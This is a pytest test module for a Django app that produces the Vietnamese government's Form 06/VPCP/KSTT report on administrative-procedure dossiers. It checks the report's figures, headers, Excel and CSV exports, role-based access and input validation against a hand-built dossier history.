"""The Form 06/VPCP/KSTT page, its Excel and CSV files, and the statistics-runs page.

A small history is built through the services so that every figure of November 2025
(15/10/2025–14/11/2025) is known by hand:

=====  =========  ==========  =======================================================
unit   received   channel     what happens
=====  =========  ==========  =======================================================
QLD    Mon 06/10  in person   due 13/10, resolved 20/10: carried over, resolved late
QLD    Wed 08/10  online      due 15/10, never ends: carried over, overdue at 14/11
QLD    Mon 20/10  online      due 27/10, resolved 23/10: early
QLD    Tue 21/10  postal      due 28/10, refused 28/10: on time
QLD    Mon 10/11  in person   due 17/11, open: within deadline
QLD    Mon 03/11  online      due 10/11, resolved 20/11 (after the period): overdue at 14/11
QLD    Wed 01/10  in person   ended 03/10: before the period, not counted
QLD    Mon 17/11  online      after the period, not counted
A1     Mon 27/10  online      due 03/11, resolved 30/10: early
A1     Mon 27/10  in person   due 03/11, resolved 05/11: late
ATTP   Fri 10/10  in person   due 17/10, resolved 17/10: carried over, on time
ATTP   Wed 12/11  online      due 19/11, open: within deadline
ATTP   Mon 03/11  online      due 10/11, supplement asked 05/11: paused, within deadline
=====  =========  ==========  =======================================================
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from dossiers import services
from dossiers.choices import Channel, Outcome
from stats import form06 as reports
from stats import rollups
from stats.choices import StatsRunKind, StatsRunStatus
from stats.models import StatsRun
from stats.tasks import compute_stats_range
from tests.factories import FieldFactory, ProcedureFactory, ProcedureVersionFactory, UserFactory
from tests.helpers import local

D = datetime.date
NOW = local(2025, 11, 25, 20)
NOVEMBER = {"period": "month", "year": "2025", "number": "11"}
URL = "/reports/form06/"
RUNS_URL = "/reports/runs/"
pytestmark = pytest.mark.django_db

# Columns (3)-(13) in the form's order: received total, newly received online, newly received in person
# or by post, carried over; resolved total, early, on time, late; in progress total, within deadline,
# overdue. Then the rates of the block beside the form: on-time, progress and online rates.
EXPECTED = {
    "ATTP": (3, 2, 0, 1, 1, 0, 1, 0, 2, 2, 0, "100.00", "100.00", "100.00"),
    "QLD": (6, 2, 2, 2, 3, 1, 1, 1, 3, 1, 2, "66.67", "50.00", "50.00"),
    "QLD_KD": (2, 1, 1, 0, 2, 1, 0, 1, 0, 0, 0, "50.00", "50.00", "50.00"),
}
EXPECTED_TOTALS = (11, 5, 3, 3, 6, 2, 2, 2, 5, 3, 2, "66.67", "63.64", "62.50")
EXPECTED_BY_FIELD = {
    "cap-phep": (9, 4, 2, 3, 4, 1, 2, 1, 5, 3, 2, "75.00", "66.67", "66.67"),
    "kinh-doanh": EXPECTED["QLD_KD"],
}


def build_known_dossiers(*, unit_a, unit_a1, unit_b, officer):
    """The history of the module docstring, with its rollups computed by a recorded backfill run."""
    licensing = FieldFactory(code="cap-phep", name_vi="Cấp phép hoạt động", name_en="Licensing")
    trade = FieldFactory(code="kinh-doanh", name_vi="Kinh doanh dược", name_en="Drug trade")
    procedures = {}
    for code, unit, field in (
        ("1.000001", unit_a, licensing),
        ("1.000002", unit_a1, trade),
        ("1.000003", unit_b, licensing),
    ):
        procedures[unit.code] = ProcedureVersionFactory(
            procedure=ProcedureFactory(code=code, unit=unit, field=field, name_vi=f"Thủ tục {code}"), processing_days=5
        ).procedure
    applicant = services.Applicant(name="Nguyễn Văn An")

    def receive(unit, day, channel):
        return services.dossier_receive(
            procedure=procedures[unit.code], channel=channel, applicant=applicant, received_at=day, by=officer
        )

    def end(dossier, at, outcome=Outcome.RESOLVED):
        note = "Thiếu giấy chứng nhận" if outcome == Outcome.REFUSED else ""
        return services.dossier_end(dossier=dossier, by=officer, outcome=outcome, note=note, at=at)

    with time_machine.travel(NOW, tick=False):
        made = {}
        made["a_late"] = receive(unit_a, local(2025, 10, 6), Channel.IN_PERSON)
        made["a_overdue"] = receive(unit_a, local(2025, 10, 8), Channel.ONLINE)
        made["a_early"] = receive(unit_a, local(2025, 10, 20, 9), Channel.ONLINE)
        made["a_on_time"] = receive(unit_a, local(2025, 10, 21), Channel.POSTAL)
        made["a_within"] = receive(unit_a, local(2025, 11, 10), Channel.IN_PERSON)
        made["a_ended_after"] = receive(unit_a, local(2025, 11, 3), Channel.ONLINE)
        made["a_before"] = receive(unit_a, local(2025, 10, 1), Channel.IN_PERSON)
        made["a_after"] = receive(unit_a, local(2025, 11, 17), Channel.ONLINE)
        made["a1_early"] = receive(unit_a1, local(2025, 10, 27), Channel.ONLINE)
        made["a1_late"] = receive(unit_a1, local(2025, 10, 27), Channel.IN_PERSON)
        made["b_on_time"] = receive(unit_b, local(2025, 10, 10), Channel.IN_PERSON)
        made["b_within"] = receive(unit_b, local(2025, 11, 12), Channel.ONLINE)
        made["b_paused"] = receive(unit_b, local(2025, 11, 3), Channel.ONLINE)
        made["a_before"] = end(made["a_before"], local(2025, 10, 3))
        made["a_on_time"] = end(made["a_on_time"], local(2025, 10, 28, 14), Outcome.REFUSED)
        made["a_late"] = end(made["a_late"], local(2025, 10, 20))
        made["a_early"] = end(made["a_early"], local(2025, 10, 23))
        made["a_ended_after"] = end(made["a_ended_after"], local(2025, 11, 20))
        made["a1_early"] = end(made["a1_early"], local(2025, 10, 30))
        made["a1_late"] = end(made["a1_late"], local(2025, 11, 5))
        made["b_on_time"] = end(made["b_on_time"], local(2025, 10, 17))
        made["b_paused"] = services.dossier_request_supplement(
            dossier=made["b_paused"], by=officer, note="Bổ sung bản sao giấy phép", at=local(2025, 11, 5)
        )
        rollups.stats_backfill(date_from=D(2025, 10, 1), date_to=D(2025, 11, 24))
    return made


@pytest.fixture
def known(unit_a, unit_a1, unit_b, officer_a):
    return build_known_dossiers(unit_a=unit_a, unit_a1=unit_a1, unit_b=unit_b, officer=officer_a)


@pytest.fixture(autouse=True)
def _today():
    """Every request is made on 25 November 2025, after the history above."""
    with time_machine.travel(NOW, tick=False):
        yield


def numbers(cells):
    """A line's cells as in ``EXPECTED``: counts as ints, rates as two-decimal strings."""
    return tuple(str(value) if column.is_rate else value for column, value in cells)


def page(client, user, language="vi", **query):
    client.force_login(user)
    client.cookies["django_language"] = language  # pages follow the switcher, not the browser
    return client.get(URL, query)


def table(response):
    return {line["row"].code: numbers(line["cells"] + line["rates"]) for line in response.context["lines"]}


def totals(response):
    return numbers(response.context["total_cells"] + response.context["total_rates"])


def test_the_appointment_dates_are_those_of_the_table(known):
    assert {name: dossier.appointment_date for name, dossier in known.items() if name.startswith("a_")} == {
        "a_late": D(2025, 10, 13),
        "a_overdue": D(2025, 10, 15),
        "a_early": D(2025, 10, 27),
        "a_on_time": D(2025, 10, 28),
        "a_within": D(2025, 11, 17),
        "a_ended_after": D(2025, 11, 10),
        "a_before": D(2025, 10, 8),
        "a_after": D(2025, 11, 24),
    }
    assert [known[name].timeliness for name in ("a_late", "a_early", "a_on_time", "a1_late", "b_on_time")] == [
        "late",
        "early",
        "on_time",
        "late",
        "on_time",
    ]


class TestForm06Page:
    def test_ministry_office_sees_every_unit_and_the_totals(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER)
        assert response.status_code == 200
        assert table(response) == EXPECTED
        assert [line["row"].code for line in response.context["lines"]] == ["ATTP", "QLD", "QLD_KD"]
        assert totals(response) == EXPECTED_TOTALS
        assert response.context["period_text"] == "Tháng 11 năm 2025 (từ ngày 15/10/2025 đến ngày 14/11/2025)"

    def test_the_table_has_the_official_grouped_header_and_the_totals_row(self, client, known, office_staff):
        html = page(client, office_staff, **NOVEMBER).content.decode()
        assert '<th scope="col" rowspan="3">STT</th>' in html
        assert '<th scope="col" rowspan="3">Đơn vị</th>' in html
        assert '<th scope="col" colspan="4">Số hồ sơ nhận giải quyết</th>' in html
        assert '<th scope="col" colspan="3">Trong đó</th>' in html
        assert '<th scope="col">Số mới tiếp nhận trực tuyến</th>' in html
        assert '<th scope="col">Số mới tiếp nhận trực tiếp, dịch vụ bưu chính</th>' in html
        assert '<th scope="col">Số kỳ trước chuyển qua</th>' in html
        assert '<th scope="col" colspan="4">Số hồ sơ đã giải quyết</th>' in html
        assert '<th scope="col" colspan="3">Số hồ sơ đang giải quyết</th>' in html
        assert '<th scope="row">Tổng cộng</th>' in html
        assert '<th scope="col">(13)</th>' in html and "(14)" not in html
        # The rates stand in a block beside the form, with the Vietnamese decimal comma.
        assert '<th scope="col" colspan="4">Tỷ lệ (%) — không thuộc biểu mẫu</th>' in html
        assert ">66,67<" in html and ">63,64<" in html and ">62,50<" in html

    def test_the_header_and_signature_blocks_are_those_of_the_filed_form(self, client, known, office_staff):
        html = page(client, office_staff, **NOVEMBER).content.decode()
        for text in (
            "Biểu số 06/VPCP/KSTT",
            "Ban hành theo Thông tư số 01/2020/TT-VPCP ngày 21/10/2020",
            "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH TẠI CƠ QUAN, ĐƠN VỊ TRỰC TIẾP GIẢI QUYẾT TTHC",
            "Kỳ báo cáo: Tháng 11 năm 2025 (từ ngày 15/10/2025 đến ngày 14/11/2025)",
            "Đơn vị báo cáo: Bộ Y tế",
            "Đơn vị nhận báo cáo: Văn phòng Chính phủ (Cục Kiểm soát thủ tục hành chính)",
            "Đơn vị tính: Số hồ sơ TTHC",
            "Hà Nội, ngày 25 tháng 11 năm 2025",
            "Người lập biểu",
            "Thủ trưởng đơn vị",
        ):
            assert text in html, text

    def test_the_form_stays_vietnamese_in_an_english_interface(self, client, known, office_staff, unit_a):
        unit_a.name_en = "Drug Administration"
        unit_a.save()
        html = page(client, office_staff, language="en", **NOVEMBER, unit="QLD").content.decode()
        assert "Show report" in html  # the interface is English …
        document = html[html.index('id="form06-document"') :]
        # … the form is not: Vietnamese names, headings and number formats.
        assert "Đơn vị báo cáo: Cục Quản lý Dược" in document
        assert "Đơn vị nhận báo cáo: Văn phòng Bộ<" in document  # the ministry's office unit
        assert "Cục Quản lý Dược" in document and "Drug Administration" not in document
        assert ">66,67<" in document

    def test_grouped_by_field(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER, group_by="field")
        assert table(response) == EXPECTED_BY_FIELD
        assert totals(response) == EXPECTED_TOTALS
        assert '<th scope="col" rowspan="3">Lĩnh vực, công việc giải quyết theo cấp</th>' in response.content.decode()

    def test_grouped_by_procedure(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER, group_by="procedure")
        assert table(response) == {
            "1.000001": EXPECTED["QLD"],
            "1.000002": EXPECTED["QLD_KD"],
            "1.000003": EXPECTED["ATTP"],
        }

    def test_a_custom_range_equal_to_the_month_gives_the_same_numbers(self, client, known, office_staff):
        response = page(client, office_staff, date_from="2025-10-15", date_to="2025-11-14")
        assert table(response) == EXPECTED
        assert response.context["form"]["period"].value() == "custom"
        assert response.context["period_text"] == "Từ ngày 15/10/2025 đến ngày 14/11/2025"

    def test_a_quarter_and_a_year(self, client, known, office_staff):
        # Q4 2025 runs 15/09–14/12, so it ends after today: refused. Q1 2026 likewise. Year 2025 too.
        response = page(client, office_staff, period="quarter", year="2025", number="4")
        assert response.status_code == 400
        assert "14/12/2025" in response.context["form"].non_field_errors()[0]
        # The six months to 14/06/2025 ended long ago and hold none of these dossiers.
        response = page(client, office_staff, period="half", year="2025", number="1")
        assert response.status_code == 200
        assert response.context["lines"] == []
        assert totals(response)[:11] == (0,) * 11

    def test_the_subtree_of_a_unit(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER, unit="QLD")
        assert table(response) == {"QLD": EXPECTED["QLD"], "QLD_KD": EXPECTED["QLD_KD"]}
        assert totals(response)[:11] == (8, 3, 3, 2, 5, 2, 1, 2, 3, 1, 2)

    def test_without_a_query_the_latest_ended_month_is_shown(self, client, known, office_staff):
        response = page(client, office_staff)
        assert response.status_code == 200
        assert table(response) == EXPECTED
        assert 'href="?period=month&amp;year=2025&amp;number=11&amp;group_by=unit&amp;export=xlsx"' in (
            response.content.decode()
        )

    def test_days_not_yet_computed_are_announced(self, client, known, office_staff):
        response = page(client, office_staff, date_from="2025-11-01", date_to="2025-11-25")
        assert response.context["coverage"].missing == [(D(2025, 11, 25), D(2025, 11, 25))]
        assert "25/11/2025" in response.content.decode()
        assert page(client, office_staff, **NOVEMBER).context["coverage"].incomplete is False


class TestForm06Access:
    def test_the_head_of_a_sees_a_and_its_sub_unit_only(self, client, known, head_a):
        response = page(client, head_a, **NOVEMBER)
        assert table(response) == {"QLD": EXPECTED["QLD"], "QLD_KD": EXPECTED["QLD_KD"]}
        assert totals(response)[:11] == (8, 3, 3, 2, 5, 2, 1, 2, 3, 1, 2)

    def test_an_officer_of_a_sees_a_only_even_when_asking_for_its_subtree(self, client, known, officer_a):
        assert table(page(client, officer_a, **NOVEMBER)) == {"QLD": EXPECTED["QLD"]}
        assert table(page(client, officer_a, **NOVEMBER, unit="QLD")) == {"QLD": EXPECTED["QLD"]}

    def test_an_officer_of_b_sees_b_only(self, client, known, officer_b):
        assert table(page(client, officer_b, **NOVEMBER)) == {"ATTP": EXPECTED["ATTP"]}

    def test_the_auditor_sees_everything(self, client, known, auditor):
        assert table(page(client, auditor, **NOVEMBER)) == EXPECTED

    def test_the_head_of_a_asking_for_unit_b_is_refused(self, client, known, head_a):
        assert page(client, head_a, **NOVEMBER, unit="ATTP").status_code == 403
        assert page(client, head_a, **NOVEMBER, unit="ATTP", export="xlsx").status_code == 403

    def test_the_select_lists_only_the_units_one_may_read(self, client, known, head_a):
        html = page(client, head_a, **NOVEMBER).content.decode()
        assert '<option value="QLD">' in html and '<option value="QLD_KD">' in html
        assert 'value="ATTP"' not in html

    def test_a_user_without_a_role_is_refused_and_a_visitor_sent_to_log_in(self, client, known):
        assert page(client, UserFactory(username="nobody"), **NOVEMBER).status_code == 403
        client.logout()
        response = client.get(URL)
        assert (response.status_code, response["Location"]) == (302, f"/accounts/login/?next={URL}")

    def test_the_nav_links_to_reports_for_readers_only(self, client, known, officer_a):
        client.force_login(officer_a)
        assert 'href="/reports/form06/"' in client.get("/").content.decode()
        client.force_login(UserFactory(username="nobody"))
        assert 'href="/reports/form06/"' not in client.get("/").content.decode()


class TestBadInput:
    @pytest.mark.parametrize(
        ("query", "field", "fragment"),
        [
            ({"date_from": "2025-11-14", "date_to": "2025-10-15"}, "date_to", "before the start"),
            ({"date_from": "2025-13-01", "date_to": "2025-11-14"}, "date_from", ""),
            ({"date_from": "15/10/2025x", "date_to": "2025-11-14"}, "date_from", ""),
            ({"date_from": "2025-11-01", "date_to": "2025-11-26"}, "date_to", "26/11/2025"),
            ({"date_from": "2020-11-14", "date_to": "2025-11-14"}, "date_to", "5"),
            ({"date_from": "1999-12-01", "date_to": "2000-01-14"}, "date_from", "01/01/2000"),
            ({"period": "custom", "date_from": "2025-10-15"}, "date_to", "custom range"),
            ({**NOVEMBER, "group_by": "province"}, "group_by", "province"),
            ({**NOVEMBER, "unit": "XYZ"}, "unit", "XYZ"),
            ({**NOVEMBER, "period": "week"}, "period", "week"),
            ({**NOVEMBER, "number": "13"}, "number", "12"),
            ({**NOVEMBER, "number": "0"}, "number", "12"),
            ({"period": "quarter", "year": "2025", "number": "5"}, "number", "4"),
            ({"period": "month", "number": "11"}, "year", ""),
            ({"period": "month", "year": "twenty", "number": "11"}, "year", ""),
            ({"period": "month", "year": "99999", "number": "11"}, "year", "9999"),
            ({**NOVEMBER, "export": "pdf"}, "export", "pdf"),
        ],
    )
    def test_is_a_form_error_never_a_500(self, client, known, office_staff, query, field, fragment):
        response = page(client, office_staff, language="en", **query)
        assert response.status_code == 400
        errors = response.context["form"].errors
        assert field in errors, errors
        assert fragment in " ".join(errors[field])
        assert response.context.get("lines") is None
        # The message reaches the page.
        assert errors[field][0].replace("'", "&#x27;").replace('"', "&quot;") in response.content.decode()

    def test_a_preset_period_that_has_not_ended_is_a_message_above_the_form(self, client, known, office_staff):
        response = page(client, office_staff, language="en", period="month", year="2025", number="12")
        assert response.status_code == 400
        assert response.context["form"].non_field_errors() == [
            "14/12/2025 lies in the future: a report can end today (25/11/2025) at the latest."
        ]

    def test_a_year_ignores_the_number_box(self, client, known, office_staff):
        with time_machine.travel(local(2026, 1, 5), tick=False):
            response = page(client, office_staff, period="year", year="2025", number="7")
        assert response.status_code == 200
        assert response.context["period_text"] == "Năm 2025 (từ ngày 15/12/2024 đến ngày 14/12/2025)"


class TestQueries:
    def test_the_page_costs_the_same_whatever_the_number_of_groups(self, client, known, office_staff, officer_a):
        client.force_login(office_staff)
        query = {**NOVEMBER, "group_by": "procedure"}
        with CaptureQueriesContext(connection) as few:
            assert len(client.get(URL, query).context["lines"]) == 3
        # Ten more procedures, each with a dossier in the period.
        for number in range(10):
            procedure = ProcedureVersionFactory(procedure=ProcedureFactory(unit=known["a_late"].unit)).procedure
            services.dossier_receive(
                procedure=procedure,
                channel=Channel.ONLINE,
                applicant=services.Applicant(name=f"Người nộp {number}"),
                received_at=local(2025, 11, 3),
                by=officer_a,
            )
        rollups.rollup_days(D(2025, 11, 3), D(2025, 11, 24))
        with CaptureQueriesContext(connection) as many:
            assert len(client.get(URL, query).context["lines"]) == 13
        assert len(many.captured_queries) == len(few.captured_queries)

    def test_the_page_stays_within_its_query_budget(self, client, known, office_staff, django_assert_max_num_queries):
        client.force_login(office_staff)
        # Session, user, roles, the user's units, the chosen unit, five for form06 (the ids of the
        # unit's subtree, then four on the rollups), the last computed day, the ministry and its
        # office (the header block), whether the period was submitted.
        with django_assert_max_num_queries(13):
            assert client.get(URL, {**NOVEMBER, "unit": "QLD"}).status_code == 200


class TestExcel:
    def workbook(self, client, user, **query):
        response = page(client, user, **query, export="xlsx")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        return response, load_workbook(io.BytesIO(response.content)).active

    def test_header_block_and_file_name(self, client, known, office_staff):
        response, sheet = self.workbook(client, office_staff, **NOVEMBER)
        assert response["Content-Disposition"] == (
            'attachment; filename="mau-06-VPCP-KSTT_unit_2025-10-15_2025-11-14.xlsx"'
        )
        assert sheet.title == "Mẫu 06"
        assert {cell: sheet[cell].value for cell in ("A1", "A2", "G1", "G2", "A4", "A5", "A6")} == {
            "A1": "Biểu số 06/VPCP/KSTT",
            "A2": "Ban hành theo Thông tư số 01/2020/TT-VPCP ngày 21/10/2020",
            "G1": "Đơn vị báo cáo: Bộ Y tế",
            "G2": "Đơn vị nhận báo cáo: Văn phòng Chính phủ (Cục Kiểm soát thủ tục hành chính)",
            "A4": "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH TẠI CƠ QUAN, ĐƠN VỊ TRỰC TIẾP GIẢI QUYẾT TTHC",
            "A5": "Kỳ báo cáo: Tháng 11 năm 2025 (từ ngày 15/10/2025 đến ngày 14/11/2025)",
            "A6": "Đơn vị tính: Số hồ sơ TTHC",
        }
        assert {"A1:F1", "A4:M4", "A5:M5"} <= {str(cell_range) for cell_range in sheet.merged_cells.ranges}
        assert sheet["A1"].font.name == "Times New Roman"

    def test_thirteen_columns_merged_like_the_filed_form(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, **NOVEMBER)
        merged = {str(cell_range) for cell_range in sheet.merged_cells.ranges}
        assert {
            "A8:A10",
            "B8:B10",
            "C8:F8",
            "G8:J8",
            "K8:M8",
            "C9:C10",
            "D9:F9",
            "G9:G10",
            "H9:H10",
            "J9:J10",
            "K9:K10",
            "M9:M10",
        } <= merged
        headings = {
            "A8": "STT",
            "B8": "Đơn vị",
            "C8": "Số hồ sơ nhận giải quyết",
            "G8": "Số hồ sơ đã giải quyết",
            "K8": "Số hồ sơ đang giải quyết",
            "C9": "Tổng số",
            "D9": "Trong đó",
            "D10": "Số mới tiếp nhận trực tuyến",
            "E10": "Số mới tiếp nhận trực tiếp, dịch vụ bưu chính",
            "F10": "Số kỳ trước chuyển qua",
            "G9": "Tổng số",
            "H9": "Trước hạn",
            "I9": "Đúng hạn",
            "J9": "Quá hạn",
            "K9": "Tổng số",
            "L9": "Trong hạn",
            "M9": "Quá hạn",
        }
        assert {cell: sheet[cell].value for cell in headings} == headings
        assert [sheet.cell(row=11, column=column).value for column in range(1, 15)] == [
            *(f"({number})" for number in range(1, 14)),
            None,
        ]
        assert sheet.freeze_panes == "C12"
        assert sheet["C8"].border.left.style == "thin"
        assert sheet.print_title_rows == "$8:$11"

    def test_the_rates_stand_in_a_block_beside_the_form(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, **NOVEMBER)
        assert sheet["N8"].value is None and sheet["N12"].value is None  # one empty column between
        assert "O8:R8" in {str(cell_range) for cell_range in sheet.merged_cells.ranges}
        assert [sheet[cell].value for cell in ("O8", "O9", "P9", "Q9", "R9")] == [
            "Tỷ lệ (%) — không thuộc biểu mẫu",
            "Mã",
            "Giải quyết đúng hạn",
            "Tiến độ giải quyết",
            "Tiếp nhận trực tuyến",
        ]
        assert [sheet.cell(row=row, column=15).value for row in (12, 13, 14, 15)] == ["ATTP", "QLD", "QLD_KD", None]
        assert [f"{sheet.cell(row=13, column=column).value:.2f}" for column in (16, 17, 18)] == list(
            EXPECTED["QLD"][11:]
        )
        assert sheet["P13"].number_format == "0.00"

    def test_numbers_land_in_their_cells_and_the_totals_row_follows(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, **NOVEMBER)

        def line(row):
            counts = [sheet.cell(row=row, column=column).value for column in range(3, 14)]
            rates = [f"{sheet.cell(row=row, column=column).value:.2f}" for column in range(16, 19)]
            return (*counts, *rates)

        assert [sheet.cell(row=row, column=1).value for row in (12, 13, 14)] == [1, 2, 3]
        assert [sheet.cell(row=row, column=2).value for row in (12, 13, 14)] == [
            "Cục An toàn thực phẩm",
            "Cục Quản lý Dược",
            "Phòng Quản lý kinh doanh dược",
        ]
        assert {code: line(row) for code, row in (("ATTP", 12), ("QLD", 13), ("QLD_KD", 14))} == EXPECTED
        assert sheet["B15"].value == "Tổng cộng"
        assert line(15) == EXPECTED_TOTALS
        assert sheet["B15"].font.bold is True
        assert sheet["C13"].number_format == "#,##0"

    def test_the_signature_block_follows_the_table(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, **NOVEMBER)
        assert sheet["G17"].value == "Hà Nội, ngày 25 tháng 11 năm 2025"
        assert [sheet["A18"].value, sheet["G18"].value] == ["Người lập biểu", "Thủ trưởng đơn vị"]
        assert [sheet["A19"].value, sheet["G19"].value] == ["(Ký, ghi rõ họ tên)", "(Ký tên, đóng dấu)"]

    def test_names_stay_vietnamese_in_an_english_interface(self, client, known, office_staff, unit_a):
        unit_a.name_en = "Drug Administration"
        unit_a.save()
        client.force_login(office_staff)
        client.cookies["django_language"] = "en"
        response = client.get(URL, {**NOVEMBER, "export": "xlsx"})
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet["B13"].value == "Cục Quản lý Dược"
        assert sheet["A1"].value == "Biểu số 06/VPCP/KSTT"

    def test_a_head_s_file_names_the_units_reporting_to_the_ministry_office(self, client, known, head_a):
        _response, sheet = self.workbook(client, head_a, **NOVEMBER)
        assert sheet["G1"].value == "Đơn vị báo cáo: Cục Quản lý Dược"
        assert sheet["G2"].value == "Đơn vị nhận báo cáo: Văn phòng Bộ Y tế"
        assert sheet["B14"].value == "Tổng cộng"

    def test_empty_rates_are_empty_cells(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, period="half", year="2025", number="1")
        assert sheet["B12"].value == "Tổng cộng"
        assert [sheet.cell(row=12, column=column).value for column in (3, 16, 17, 18)] == [0, None, None, None]


class TestCsv:
    def csv_lines(self, client, user, **query):
        response = page(client, user, **query, export="csv")
        assert response.status_code == 200
        assert response.content.startswith(b"\xef\xbb\xbf")
        return response, list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))

    def test_the_same_grid_as_the_workbook(self, client, known, office_staff):
        response, lines = self.csv_lines(client, office_staff, **NOVEMBER, group_by="field")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == (
            'attachment; filename="mau-06-VPCP-KSTT_field_2025-10-15_2025-11-14.csv"'
        )
        assert lines[0] == ["Biểu số 06/VPCP/KSTT", "", "", "", "", "", "Đơn vị báo cáo: Bộ Y tế"]
        assert lines[1][0] == "Ban hành theo Thông tư số 01/2020/TT-VPCP ngày 21/10/2020"
        assert lines[1][6] == "Đơn vị nhận báo cáo: Văn phòng Chính phủ (Cục Kiểm soát thủ tục hành chính)"
        assert lines[2] == []
        assert lines[3] == [
            "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH TẠI CƠ QUAN, ĐƠN VỊ TRỰC TIẾP GIẢI QUYẾT TTHC"
        ]
        assert lines[4] == ["Kỳ báo cáo: Tháng 11 năm 2025 (từ ngày 15/10/2025 đến ngày 14/11/2025)"]
        assert lines[5] == ["Đơn vị tính: Số hồ sơ TTHC"]
        blank = [""] * 3
        assert lines[7] == [
            "STT",
            "Lĩnh vực, công việc giải quyết theo cấp",
            "Số hồ sơ nhận giải quyết",
            *blank,
            "Số hồ sơ đã giải quyết",
            *blank,
            "Số hồ sơ đang giải quyết",
            "",
            "",
            "",
            "Tỷ lệ (%) — không thuộc biểu mẫu",
        ]
        assert lines[8] == [
            "",
            "",
            "Tổng số",
            "Trong đó",
            "",
            "",
            "Tổng số",
            "Trước hạn",
            "Đúng hạn",
            "Quá hạn",
            "Tổng số",
            "Trong hạn",
            "Quá hạn",
            "",
            "Mã",
            "Giải quyết đúng hạn",
            "Tiến độ giải quyết",
            "Tiếp nhận trực tuyến",
        ]
        assert lines[9] == [
            "",
            "",
            "",
            "Số mới tiếp nhận trực tuyến",
            "Số mới tiếp nhận trực tiếp, dịch vụ bưu chính",
            "Số kỳ trước chuyển qua",
        ]
        assert lines[10] == [f"({number})" for number in range(1, 14)]

        def line(number, name, code, figures):
            return [number, name, *map(str, figures[:11]), "", code, *figures[11:]]

        assert lines[11] == line("1", "Cấp phép hoạt động", "cap-phep", EXPECTED_BY_FIELD["cap-phep"])
        assert lines[12] == line("2", "Kinh doanh dược", "kinh-doanh", EXPECTED_BY_FIELD["kinh-doanh"])
        assert lines[13] == line("", "Tổng cộng", "", EXPECTED_TOTALS)
        assert lines[14] == []
        assert lines[15][6] == "Hà Nội, ngày 25 tháng 11 năm 2025"
        assert [lines[16][0], lines[16][6]] == ["Người lập biểu", "Thủ trưởng đơn vị"]
        assert [lines[17][0], lines[17][6]] == ["(Ký, ghi rõ họ tên)", "(Ký tên, đóng dấu)"]

    def test_a_rate_with_nothing_to_divide_is_empty(self):
        from stats.selectors import Form06Row

        heading = reports.ReportHeading(
            date_from=D(2025, 10, 15), date_to=D(2025, 11, 14), reporting_unit="Bộ Y tế", receiving_unit="VPCP"
        )
        content = reports.form06_csv(
            [], Form06Row(carried_over=2, open_within_deadline=2), group_by="unit", heading=heading
        )
        lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        counts = ["2", "0", "0", "2", "0", "0", "0", "0", "2", "2", "0"]
        assert lines[11] == ["", "Tổng cộng", *counts, "", "", "", "100.00"]
        assert lines[13][6] == "……, ngày … tháng … năm …"  # no date given: left for the signer


def test_the_three_layouts_share_one_column_set():
    for cells, width in ((reports.header_cells("unit"), reports.COLUMN_COUNT), (reports.rate_header_cells(), 4)):
        covered = set()
        for cell in cells:
            for row in range(cell.row, cell.row + cell.rowspan):
                for column in range(cell.column, cell.column + cell.colspan):
                    assert (row, column) not in covered
                    covered.add((row, column))
        assert covered == {(row, column) for row in range(1, 4) for column in range(1, width + 1)}
    assert reports.COLUMN_COUNT == 13
    assert [column.key for column in reports.COLUMNS][:4] == [
        "received_total",
        "received_online",
        "received_offline",
        "carried_over",
    ]
    row = reports.Form06Row(resolved_early=2, resolved_late=1)
    assert len(reports.cells(row)) == 11
    assert Decimal("66.67") == reports.rate_cells(row)[0][1]


@pytest.mark.parametrize(
    ("unit_name", "is_root", "readable", "expected"),
    [
        ("", False, (), ("Bộ Y tế", "Văn phòng Chính phủ (Cục Kiểm soát thủ tục hành chính)")),
        ("Bộ Y tế", True, (), ("Bộ Y tế", "Văn phòng Chính phủ (Cục Kiểm soát thủ tục hành chính)")),
        ("Cục Quản lý Dược", False, (), ("Cục Quản lý Dược", "Văn phòng Bộ Y tế")),
        ("", False, ("Cục A", "Cục B"), ("Cục A, Cục B", "Văn phòng Bộ Y tế")),
    ],
)
def test_who_reports_to_whom(unit_name, is_root, readable, expected):
    assert (
        reports.reporting_units(ministry="Bộ Y tế", unit_name=unit_name, unit_is_root=is_root, readable=readable)
        == expected
    )


class TestRunsPage:
    def test_ministry_office_sees_the_runs(self, client, known, office_staff):
        client.force_login(office_staff)
        response = client.get(RUNS_URL)
        assert response.status_code == 200
        [run] = response.context["runs"]
        assert (run.kind, run.status, run.days_computed) == (StatsRunKind.BACKFILL, StatsRunStatus.SUCCEEDED, 55)
        html = response.content.decode()
        assert "01/10/2025 – 24/11/2025" in html
        assert ">55<" in html

    def test_an_auditor_reads_the_runs_but_may_not_recompute(self, client, known, auditor):
        client.force_login(auditor)
        response = client.get(RUNS_URL)
        assert response.status_code == 200
        assert "01/10/2025 – 24/11/2025" in response.content.decode()
        assert 'name="date_from"' not in response.content.decode()
        assert client.post(RUNS_URL, {"date_from": "2025-11-01", "date_to": "2025-11-10"}).status_code == 403
        assert StatsRun.objects.count() == 1

    @pytest.mark.parametrize("who", ["officer_a", "head_a"])
    def test_others_are_refused(self, client, known, who, request):
        client.force_login(request.getfixturevalue(who))
        assert client.get(RUNS_URL).status_code == 403
        assert client.post(RUNS_URL, {"date_from": "2025-11-01", "date_to": "2025-11-10"}).status_code == 403
        assert StatsRun.objects.count() == 1

